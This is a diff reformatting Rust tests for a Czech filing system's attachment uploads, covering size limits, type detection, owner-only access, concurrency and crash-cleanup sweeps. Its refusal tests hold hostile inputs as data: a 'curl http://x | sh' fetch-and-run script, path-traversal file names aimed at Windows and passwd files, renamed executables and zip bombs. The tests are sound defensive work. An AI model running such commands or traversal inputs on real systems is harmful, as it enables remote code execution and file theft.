@@ -256,9 +256,16 @@ async fn setup(backend: Backend, limits: Limits) -> Setup {
 
 impl Setup {
     async fn draft(&self, form: &str, data: serde_json::Value) -> String {
-        urad_filing::start_draft(&self.store.db, &self.clock, &self.forms, PERSON, form, &data)
-            .await
-            .unwrap()
+        urad_filing::start_draft(
+            &self.store.db,
+            &self.clock,
+            &self.forms,
+            PERSON,
+            form,
+            &data,
+        )
+        .await
+        .unwrap()
     }
 
     async fn add(
@@ -274,7 +281,14 @@ impl Setup {
             slot,
             file_name: name,
         };
-        attachments::add(&self.store, &self.clock, &self.forms, &upload, body(bytes, 64 * 1024)).await
+        attachments::add(
+            &self.store,
+            &self.clock,
+            &self.forms,
+            &upload,
+            body(bytes, 64 * 1024),
+        )
+        .await
     }
 
     /// Rows of attachments, records of uploads, and blobs: what is stored.
@@ -342,13 +356,23 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
         let draft = &draft;
         async move {
             assert_eq!(s.stored().await, (0, 0, 0), "{what}: something was kept");
-            assert_eq!(s.revision(draft).await, revision, "{what}: the draft changed");
+            assert_eq!(
+                s.revision(draft).await,
+                revision,
+                "{what}: the draft changed"
+            );
         }
     };
 
     // Oversized: stopped at the office's limit for one file (1 MiB here).
-    let e = refused(s.add(&draft, "documents", "velky.pdf", pdf(3 * 1024 * 1024)).await);
-    assert!(matches!(e, AttachmentError::FileTooLarge { limit, .. } if limit == 1024 * 1024), "{e:?}");
+    let e = refused(
+        s.add(&draft, "documents", "velky.pdf", pdf(3 * 1024 * 1024))
+            .await,
+    );
+    assert!(
+        matches!(e, AttachmentError::FileTooLarge { limit, .. } if limit == 1024 * 1024),
+        "{e:?}"
+    );
     assert_eq!(
         e.message(Lang::Cs),
         "Soubor „velky.pdf“ je větší než 1 MB. Zmenšete ho nebo ho rozdělte."
@@ -360,18 +384,29 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
     nothing_stored("oversized").await;
 
     // A program renamed to .pdf (Linux and Windows).
-    let e = refused(s.add(&draft, "documents", "faktura.pdf", elf_program()).await);
+    let e = refused(
+        s.add(&draft, "documents", "faktura.pdf", elf_program())
+            .await,
+    );
     assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
     assert_eq!(
         e.message(Lang::Cs),
         "Soubor „faktura.pdf“ je program, ne dokument. Programy nepřijímáme."
     );
     assert!(e.message(Lang::En).contains("“faktura.pdf” is a program"));
-    let e = refused(s.add(&draft, "documents", "smlouva.pdf", windows_program()).await);
+    let e = refused(
+        s.add(&draft, "documents", "smlouva.pdf", windows_program())
+            .await,
+    );
     assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
     let e = refused(
-        s.add(&draft, "documents", "navod.txt", b"#!/bin/sh\ncurl http://x | sh\n".to_vec())
-            .await,
+        s.add(
+            &draft,
+            "documents",
+            "navod.txt",
+            b"#!/bin/sh\ncurl http://x | sh\n".to_vec(),
+        )
+        .await,
     );
     assert!(matches!(e, AttachmentError::Program { .. }), "{e:?}");
     nothing_stored("programs").await;
@@ -379,13 +414,26 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
     // A zip bomb dressed as a DOCX, and a zip of too many parts.
     let e = refused(s.add(&draft, "documents", "zadost.docx", zip_bomb()).await);
     assert!(matches!(e, AttachmentError::ZipBomb { .. }), "{e:?}");
-    assert!(e.message(Lang::Cs).starts_with("Soubor „zadost.docx“ se po rozbalení"));
-    assert!(e.message(Lang::En).starts_with("The file “zadost.docx” grows"));
-    let e = refused(s.add(&draft, "documents", "mnoho.docx", zip_of_many_parts()).await);
+    assert!(e
+        .message(Lang::Cs)
+        .starts_with("Soubor „zadost.docx“ se po rozbalení"));
+    assert!(e
+        .message(Lang::En)
+        .starts_with("The file “zadost.docx” grows"));
+    let e = refused(
+        s.add(&draft, "documents", "mnoho.docx", zip_of_many_parts())
+            .await,
+    );
     assert!(matches!(e, AttachmentError::ZipBomb { .. }), "{e:?}");
     // A zip that is no document, and a document with macros.
     let e = refused(
-        s.add(&draft, "documents", "archiv.docx", zip_of(&[("a.txt", b"hello")], &[])).await,
+        s.add(
+            &draft,
+            "documents",
+            "archiv.docx",
+            zip_of(&[("a.txt", b"hello")], &[]),
+        )
+        .await,
     );
     assert!(matches!(e, AttachmentError::NotADocument { .. }), "{e:?}");
     let e = refused(
@@ -409,7 +457,10 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
 
     // A type the slot does not take: the boiler grant's installer certificate is a PDF.
     let boiler = s.draft("kotlikova-dotace", json!({})).await;
-    let e = refused(s.add(&boiler, "installer_certificate", "osvedceni.pdf", png()).await);
+    let e = refused(
+        s.add(&boiler, "installer_certificate", "osvedceni.pdf", png())
+            .await,
+    );
     assert!(matches!(e, AttachmentError::WrongType { .. }), "{e:?}");
     assert_eq!(
         e.message(Lang::Cs),
@@ -419,7 +470,10 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
         e.message(Lang::En),
         "The file “osvedceni.pdf” is not in an accepted format. Accepted here: PDF (by the file's content, not its extension)."
     );
-    let e = refused(s.add(&boiler, "old_boiler_photo", "kotel.jpg", docx()).await);
+    let e = refused(
+        s.add(&boiler, "old_boiler_photo", "kotel.jpg", docx())
+            .await,
+    );
     assert!(matches!(e, AttachmentError::WrongType { .. }), "{e:?}");
     let e = refused(s.add(&draft, "documents", "prazdny.pdf", Vec::new()).await);
     assert!(matches!(e, AttachmentError::Empty { .. }), "{e:?}");
@@ -433,8 +487,14 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
             .await
             .unwrap();
     }
-    let e = refused(s.add(&boiler, "old_boiler_photo", "kotel3.png", png()).await);
-    assert!(matches!(e, AttachmentError::TooManyInSlot { max: 3, .. }), "{e:?}");
+    let e = refused(
+        s.add(&boiler, "old_boiler_photo", "kotel3.png", png())
+            .await,
+    );
+    assert!(
+        matches!(e, AttachmentError::TooManyInSlot { max: 3, .. }),
+        "{e:?}"
+    );
     assert_eq!(
         e.message(Lang::Cs),
         "Soubor „kotel3.png“ už nelze přidat: sem patří nejvýše 3 soubory."
@@ -463,12 +523,24 @@ async fn bad_files_are_refused_with_their_message_and_nothing_is_stored(backend:
         .unwrap();
     assert_eq!(kept.file_name, "passwd.pdf");
     let kept = s
-        .add(&draft, "documents", "..\\..\\Windows\\win.ini.txt", b"[fonts]\n".to_vec())
+        .add(
+            &draft,
+            "documents",
+            "..\\..\\Windows\\win.ini.txt",
+            b"[fonts]\n".to_vec(),
+        )
         .await
         .unwrap();
-    assert_eq!((kept.file_name.as_str(), kept.media_type.as_str()), ("win.ini.txt", "text/plain"));
+    assert_eq!(
+        (kept.file_name.as_str(), kept.media_type.as_str()),
+        ("win.ini.txt", "text/plain")
+    );
     let keys = s.store.blobs.list("attachments").await.unwrap();
-    assert!(keys.iter().all(|k| k.starts_with("attachments/") && !k.contains("..") && !k.contains("passwd")), "{keys:?}");
+    assert!(
+        keys.iter()
+            .all(|k| k.starts_with("attachments/") && !k.contains("..") && !k.contains("passwd")),
+        "{keys:?}"
+    );
 }
 
 async fn files_are_kept_as_sent_typed_by_content_and_only_for_their_owner(backend: Backend) {
@@ -479,7 +551,10 @@ async fn files_are_kept_as_sent_typed_by_content_and_only_for_their_owner(backen
     // 3 MB in 64 KiB chunks: stored as it arrived, read back byte for byte.
     let big = pdf(3 * 1024 * 1024 + 12345);
     let sent_sha = hex(&Sha256::digest(&big));
-    let a = s.add(&draft, "documents", "Žádost o dotaci.pdf", big.clone()).await.unwrap();
+    let a = s
+        .add(&draft, "documents", "Žádost o dotaci.pdf", big.clone())
+        .await
+        .unwrap();
     assert_eq!(a.sha256, sent_sha);
     assert_eq!(a.size, big.len() as i64);
     assert_eq!(a.media_type, "application/pdf");
@@ -487,24 +562,39 @@ async fn files_are_kept_as_sent_typed_by_content_and_only_for_their_owner(backen
     let back = read_all(&s.store, PERSON, &a.id).await;
     assert_eq!(hex(&Sha256::digest(&back)), sent_sha);
     assert!(back == big, "the bytes read back differ");
-    assert_eq!(s.revision(&draft).await, before + 1, "adding a file changes the draft");
+    assert_eq!(
+        s.revision(&draft).await,
+        before + 1,
+        "adding a file changes the draft"
+    );
 
     // Types from content whatever the name says.
-    let d = s.add(&draft, "documents", "dopis.pdf", docx()).await.unwrap();
+    let d = s
+        .add(&draft, "documents", "dopis.pdf", docx())
+        .await
+        .unwrap();
     assert_eq!(d.media_type, DOCX);
     let o = s.add(&draft, "documents", "dopis", odt()).await.unwrap();
     assert_eq!(o.media_type, ODT);
-    let p = s.add(&draft, "documents", "foto.docx", png()).await.unwrap();
+    let p = s
+        .add(&draft, "documents", "foto.docx", png())
+        .await
+        .unwrap();
     assert_eq!(p.media_type, "image/png");
     assert_eq!(read_all(&s.store, PERSON, &d.id).await, docx());
 
     // Listed in the order added; nobody else sees, reads or removes them.
-    let listed = attachments::list(&s.store.db, PERSON, &draft).await.unwrap();
+    let listed = attachments::list(&s.store.db, PERSON, &draft)
+        .await
+        .unwrap();
     assert_eq!(
         listed.iter().map(|a| a.id.as_str()).collect::<Vec<_>>(),
         [&a.id, &d.id, &o.id, &p.id]
     );
-    assert!(attachments::list(&s.store.db, "p-other", &draft).await.unwrap().is_empty());
+    assert!(attachments::list(&s.store.db, "p-other", &draft)
+        .await
+        .unwrap()
+        .is_empty());
     assert!(matches!(
         attachments::read(&s.store, "p-other", &a.id).await,
         Err(AttachmentError::UnknownAttachment)
@@ -526,7 +616,9 @@ async fn files_are_kept_as_sent_typed_by_content_and_only_for_their_owner(backen
 
     // Removing takes the row and the blob, and changes the draft.
     let revision = s.revision(&draft).await;
-    attachments::remove(&s.store, &s.clock, PERSON, &draft, &o.id).await.unwrap();
+    attachments::remove(&s.store, &s.clock, PERSON, &draft, &o.id)
+        .await
+        .unwrap();
     assert_eq!(s.revision(&draft).await, revision + 1);
     assert_eq!(s.stored().await, (3, 0, 3));
     assert!(matches!(
@@ -551,14 +643,24 @@ async fn concurrent_uploads_do_not_pass_the_submission_limits(backend: Backend) 
     let uploads = (0..8).map(|i| {
         let s = &s;
         let draft = &draft;
-        async move { s.add(draft, "documents", &format!("d{i}.pdf"), pdf(300_000)).await }
+        async move {
+            s.add(draft, "documents", &format!("d{i}.pdf"), pdf(300_000))
+                .await
+        }
     });
     let results = futures_util::future::join_all(uploads).await;
     let taken = results.iter().filter(|r| r.is_ok()).count();
     assert_eq!(taken, 3, "{results:?}");
     for e in results.iter().filter_map(|r| r.as_ref().err()) {
-        assert!(matches!(e, AttachmentError::SubmissionTooLarge { .. }), "{e:?}");
-        assert!(e.message(Lang::Cs).contains("víc než 1 MB"), "{}", e.message(Lang::Cs));
+        assert!(
+            matches!(e, AttachmentError::SubmissionTooLarge { .. }),
+            "{e:?}"
+        );
+        assert!(
+            e.message(Lang::Cs).contains("víc než 1 MB"),
+            "{}",
+            e.message(Lang::Cs)
+        );
     }
     assert_eq!(s.stored().await, (3, 0, 3));
 
@@ -574,21 +676,43 @@ async fn concurrent_uploads_do_not_pass_the_submission_limits(backend: Backend) 
     let uploads = (0..10).map(|i| {
         let s = &s;
         let draft = &draft;
-        async move { s.add(draft, "documents", &format!("t{i}.txt"), format!("text {i}\n").into_bytes()).await }
+        async move {
+            s.add(
+                draft,
+                "documents",
+                &format!("t{i}.txt"),
+                format!("text {i}\n").into_bytes(),
+            )
+            .await
+        }
     });
     let results = futures_util::future::join_all(uploads).await;
-    assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 4, "{results:?}");
+    assert_eq!(
+        results.iter().filter(|r| r.is_ok()).count(),
+        4,
+        "{results:?}"
+    );
     for e in results.iter().filter_map(|r| r.as_ref().err()) {
-        assert!(matches!(e, AttachmentError::TooManyFiles { max: 4, .. }), "{e:?}");
+        assert!(
+            matches!(e, AttachmentError::TooManyFiles { max: 4, .. }),
+            "{e:?}"
+        );
     }
     assert_eq!(s.stored().await, (4, 0, 4));
-    assert_eq!(s.revision(&draft).await, before + 4, "one revision per file taken");
+    assert_eq!(
+        s.revision(&draft).await,
+        before + 4,
+        "one revision per file taken"
+    );
 }
 
 async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) {
     let s = setup(backend, Limits::default()).await;
     let draft = s.draft("obecne-podani", json!({})).await;
-    let kept = s.add(&draft, "documents", "kept.pdf", pdf(5000)).await.unwrap();
+    let kept = s
+        .add(&draft, "documents", "kept.pdf", pdf(5000))
+        .await
+        .unwrap();
     let db: &Db = &s.store.db;
 
     // A process stopped between writing a blob and committing its row (long ago), and
@@ -613,7 +737,10 @@ async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) 
     for id in ["crashed", "removing", "in-progress"] {
         s.store
             .blobs
-            .put(&format!("attachments/{draft}/{id}"), Bytes::from_static(b"%PDF-1.4 left"))
+            .put(
+                &format!("attachments/{draft}/{id}"),
+                Bytes::from_static(b"%PDF-1.4 left"),
+            )
             .await
             .unwrap();
     }
@@ -638,7 +765,9 @@ async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) 
     // Ten minutes on: the crashed upload is stale, the one in progress is not; the cut one
     // was touched at `now` and is not stale yet either.
     s.clock.advance(600);
-    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900).await.unwrap();
+    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
+        .await
+        .unwrap();
     assert_eq!(swept.abandoned, 1);
     assert_eq!(swept.blobs_removed, 2);
     let left = s.store.blobs.list("attachments").await.unwrap();
@@ -658,12 +787,19 @@ async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) 
 
     // Later, the cut upload is stale too: its record goes; the committed file stays.
     s.clock.advance(900);
-    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900).await.unwrap();
-    assert_eq!(swept.abandoned, 2, "the cut upload and the one no longer touched");
+    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
+        .await
+        .unwrap();
+    assert_eq!(
+        swept.abandoned, 2,
+        "the cut upload and the one no longer touched"
+    );
     assert_eq!(s.stored().await, (1, 0, 1));
     assert_eq!(read_all(&s.store, PERSON, &kept.id).await, pdf(5000));
     // Running it again finds nothing.
-    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900).await.unwrap();
+    let swept = attachments::sweep(db, &s.store.blobs, &s.clock, 900)
+        .await
+        .unwrap();
     assert_eq!(swept, attachments::Swept::default());
 
     // An upload taken over by a sweep while it was still arriving fails; nothing is left.
@@ -673,7 +809,9 @@ async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) 
         if i == 2 {
             // The process stalls for long: another process's sweep takes the upload over.
             s2.clock.advance(2000);
-            attachments::sweep(&s2.store.db, &s2.store.blobs, &s2.clock, 900).await.unwrap();
+            attachments::sweep(&s2.store.db, &s2.store.blobs, &s2.clock, 900)
+                .await
+                .unwrap();
         }
         let _ = draft2;
         Ok::<_, std::io::Error>(Bytes::from(pdf(70_000)))
@@ -684,9 +822,13 @@ async fn the_sweep_removes_what_a_crash_left_and_nothing_else(backend: Backend) 
         slot: "documents",
         file_name: "pomaly.pdf",
     };
-    let e = attachments::add(&s.store, &s.clock, &s.forms, &upload, slow).await.unwrap_err();
+    let e = attachments::add(&s.store, &s.clock, &s.forms, &upload, slow)
+        .await
+        .unwrap_err();
     assert!(matches!(e, AttachmentError::Expired { .. }), "{e:?}");
-    attachments::sweep(db, &s.store.blobs, &s.clock, 900).await.unwrap();
+    attachments::sweep(db, &s.store.blobs, &s.clock, 900)
+        .await
+        .unwrap();
     assert_eq!(s.stored().await, (1, 0, 1));
 }
 
@@ -713,26 +855,37 @@ async fn submission_checks_the_attachments_and_the_receipt_lists_them(backend: B
     match submit(draft.clone()).await {
         Err(FilingError::Attachments(problems)) => {
             assert_eq!(problems.len(), 1, "{problems:?}");
-            assert!(matches!(&problems[0], AttachmentProblem::Missing { slot, .. } if slot == "photo"));
+            assert!(
+                matches!(&problems[0], AttachmentProblem::Missing { slot, .. } if slot == "photo")
+            );
             assert_eq!(problems[0].message(Lang::Cs), "Přiložte „Fotografie“.");
             assert_eq!(problems[0].message(Lang::En), "Attach “Photo”.");
         }
         other => panic!("{other:?}"),
     }
-    assert!(urad_filing::receipt(&s.store.db, PERSON, &draft).await.unwrap().is_none());
+    assert!(urad_filing::receipt(&s.store.db, PERSON, &draft)
+        .await
+        .unwrap()
+        .is_none());
 
     // The certificate is required only when its slot is shown (kind = built).
     let built = s.draft("prilohy-test", json!({"kind": "built"})).await;
     s.add(&built, "photo", "dum.png", png()).await.unwrap();
     match submit(built.clone()).await {
         Err(FilingError::Attachments(problems)) => {
-            assert!(matches!(&problems[..], [AttachmentProblem::Missing { slot, .. }] if slot == "certificate"), "{problems:?}");
+            assert!(
+                matches!(&problems[..], [AttachmentProblem::Missing { slot, .. }] if slot == "certificate"),
+                "{problems:?}"
+            );
         }
         other => panic!("{other:?}"),
     }
 
     // With them: the receipt lists every file, in slot order then upload order.
-    let extra = s.add(&draft, "extra", "priloha.txt", b"Doplneni\n".to_vec()).await.unwrap();
+    let extra = s
+        .add(&draft, "extra", "priloha.txt", b"Doplneni\n".to_vec())
+        .await
+        .unwrap();
     let first = s.add(&draft, "photo", "a.png", png()).await.unwrap();
     let doc = s.add(&draft, "extra", "dopis.docx", docx()).await.unwrap();
     let mut second_png = png();
@@ -756,7 +909,10 @@ async fn submission_checks_the_attachments_and_the_receipt_lists_them(backend: B
     assert_eq!(receipt.attachments[3].media_type, DOCX);
     assert_eq!(receipt.attachments[3].size, docx().len() as i64);
     // The stored receipt says the same, and so does submitting again.
-    let stored = urad_filing::receipt(&s.store.db, PERSON, &draft).await.unwrap().unwrap();
+    let stored = urad_filing::receipt(&s.store.db, PERSON, &draft)
+        .await
+        .unwrap()
+        .unwrap();
     assert_eq!(stored, receipt);
     assert_eq!(submit(draft.clone()).await.unwrap(), receipt);
 
@@ -774,7 +930,9 @@ async fn submission_checks_the_attachments_and_the_receipt_lists_them(backend: B
     // Limits lowered since the files were added are checked on submitting too.
     let many = s.draft("prilohy-test", json!({"kind": "own"})).await;
     s.add(&many, "photo", "c.png", png()).await.unwrap();
-    s.add(&many, "extra", "d.txt", b"d\n".to_vec()).await.unwrap();
+    s.add(&many, "extra", "d.txt", b"d\n".to_vec())
+        .await
+        .unwrap();
     let strict = SubmitRequest {
         attachment_limits: Limits {
             files: 1,
@@ -784,7 +942,10 @@ async fn submission_checks_the_attachments_and_the_receipt_lists_them(backend: B
     };
     match urad_filing::submit(&s.store.db, &s.clock, &s.forms, "KUMSK", &strict).await {
         Err(FilingError::Attachments(problems)) => {
-            assert!(matches!(&problems[..], [AttachmentProblem::TooManyFiles { max: 1 }]), "{problems:?}");
+            assert!(
+                matches!(&problems[..], [AttachmentProblem::TooManyFiles { max: 1 }]),
+                "{problems:?}"
+            );
         }
         other => panic!("{other:?}"),
     }
@@ -812,7 +973,13 @@ async fn s3_store() -> BlobStore {
         "{}",
         created.status()
     );
-    let prefix = format!("run-{}", hex(&Sha256::digest(format!("{:?}", std::time::SystemTime::now()).as_bytes()))[..16].to_owned());
+    let prefix = format!(
+        "run-{}",
+        hex(&Sha256::digest(
+            format!("{:?}", std::time::SystemTime::now()).as_bytes()
+        ))[..16]
+            .to_owned()
+    );
     BlobStore::s3(&format!("s3://{bucket}/{prefix}"), Some(&endpoint)).unwrap()
 }
 
@@ -823,9 +990,16 @@ async fn blob_store_contract(blobs: BlobStore) {
     for chunk in big.chunks(256 * 1024) {
         writer.write(Bytes::copy_from_slice(chunk)).await.unwrap();
     }
-    assert_eq!(blobs.size("attachments/d1/big").await.unwrap(), None, "not visible before it is finished");
+    assert_eq!(
+        blobs.size("attachments/d1/big").await.unwrap(),
+        None,
+        "not visible before it is finished"
+    );
     writer.finish().await.unwrap();
-    assert_eq!(blobs.size("attachments/d1/big").await.unwrap(), Some(big.len() as u64));
+    assert_eq!(
+        blobs.size("attachments/d1/big").await.unwrap(),
+        Some(big.len() as u64)
+    );
     let mut back = Vec::new();
     let mut stream = blobs.read("attachments/d1/big").await.unwrap();
     while let Some(chunk) = stream.next().await {
@@ -833,13 +1007,26 @@ async fn blob_store_contract(blobs: BlobStore) {
     }
     assert!(back == big, "read back differs");
     assert_eq!(
-        blobs.read_range("attachments/d1/big", 5 * 1024 * 1024 - 3..5 * 1024 * 1024 + 3).await.unwrap().as_ref(),
+        blobs
+            .read_range(
+                "attachments/d1/big",
+                5 * 1024 * 1024 - 3..5 * 1024 * 1024 + 3
+            )
+            .await
+            .unwrap()
+            .as_ref(),
         &big[5 * 1024 * 1024 - 3..5 * 1024 * 1024 + 3]
     );
 
     // A small one, an aborted one, listing and removing.
-    blobs.put("attachments/d1/small", Bytes::from_static(b"abc")).await.unwrap();
-    blobs.put("attachments/d2/other", Bytes::from_static(b"x")).await.unwrap();
+    blobs
+        .put("attachments/d1/small", Bytes::from_static(b"abc"))
+        .await
+        .unwrap();
+    blobs
+        .put("attachments/d2/other", Bytes::from_static(b"x"))
+        .await
+        .unwrap();
     let mut aborted = blobs.create("attachments/d1/aborted").await.unwrap();
     aborted.write(Bytes::from_static(b"partial")).await.unwrap();
     aborted.abort().await.unwrap();
@@ -850,9 +1037,15 @@ async fn blob_store_contract(blobs: BlobStore) {
     assert_eq!(blobs.list("attachments").await.unwrap().len(), 3);
     blobs.delete("attachments/d1/big").await.unwrap();
     blobs.delete("attachments/d1/big").await.unwrap(); // removing twice is no error
-    assert!(matches!(blobs.read("attachments/d1/big").await, Err(BlobError::NotFound(_))));
+    assert!(matches!(
+        blobs.read("attachments/d1/big").await,
+        Err(BlobError::NotFound(_))
+    ));
     assert_eq!(blobs.size("attachments/d1/big").await.unwrap(), None);
-    assert_eq!(blobs.list("attachments").await.unwrap(), ["attachments/d1/small", "attachments/d2/other"]);
+    assert_eq!(
+        blobs.list("attachments").await.unwrap(),
+        ["attachments/d1/small", "attachments/d2/other"]
+    );
 }
 
 #[tokio::test]
@@ -877,9 +1070,16 @@ async fn attachments_on_s3_are_kept_as_sent_and_refused_ones_leave_nothing() {
         limits: Limits::default(),
     };
     let clock = ManualClock::at(1_800_000_000);
-    let draft = urad_filing::start_draft(&store.db, &clock, &forms, PERSON, "obecne-podani", &json!({}))
-        .await
-        .unwrap();
+    let draft = urad_filing::start_draft(
+        &store.db,
+        &clock,
+        &forms,
+        PERSON,
+        "obecne-podani",
+        &json!({}),
+    )
+    .await
+    .unwrap();
     let add = |name: &'static str, bytes: Vec<u8>| {
         let (store, forms, clock, draft) = (&store, &forms, &clock, &draft);
         async move {
@@ -896,8 +1096,14 @@ async fn attachments_on_s3_are_kept_as_sent_and_refused_ones_leave_nothing() {
     let a = add("velky.pdf", big.clone()).await.unwrap();
     assert_eq!(a.sha256, hex(&Sha256::digest(&big)));
     assert!(read_all(&store, PERSON, &a.id).await == big);
-    assert!(matches!(add("bomb.docx", zip_bomb()).await, Err(AttachmentError::ZipBomb { .. })));
-    assert!(matches!(add("x.pdf", elf_program()).await, Err(AttachmentError::Program { .. })));
+    assert!(matches!(
+        add("bomb.docx", zip_bomb()).await,
+        Err(AttachmentError::ZipBomb { .. })
+    ));
+    assert!(matches!(
+        add("x.pdf", elf_program()).await,
+        Err(AttachmentError::Program { .. })
+    ));
     assert_eq!(add("d.docx", docx()).await.unwrap().media_type, DOCX);
     assert_eq!(store.blobs.list("attachments").await.unwrap().len(), 2);
     drop(dir);
